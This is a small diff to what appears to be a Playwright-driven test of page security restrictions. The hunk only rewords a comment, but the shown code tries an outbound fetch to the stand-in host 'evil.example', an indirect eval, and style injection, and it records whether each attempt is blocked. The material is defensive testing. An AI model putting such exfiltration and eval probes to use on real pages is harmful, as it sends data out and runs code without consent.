@@ -34,7 +34,7 @@ const attempts = `(async () => {
   style.append('body { outline: 7px solid red }')
   document.head.append(style)
   const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
-  // Delayed, because code that Playwright evaluates directly may use eval.
+  // Runs in a timeout, because eval is allowed in code that Playwright evaluates directly.
   const evaluated = await new Promise((resolve) =>
     setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
   const { outlineStyle } = getComputedStyle(document.body)
